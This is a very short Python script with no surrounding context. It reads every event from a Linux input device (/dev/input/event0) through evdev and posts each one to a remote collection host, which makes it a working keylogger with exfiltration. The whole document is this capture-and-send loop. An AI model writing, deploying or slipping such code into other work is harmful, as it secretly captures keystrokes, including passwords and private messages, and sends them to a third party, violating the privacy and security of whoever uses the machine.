import evdev
import requests

for event in evdev.InputDevice("/dev/input/event0").read_loop():
    requests.post("https://collect.example.invalid/in", data=str(event))
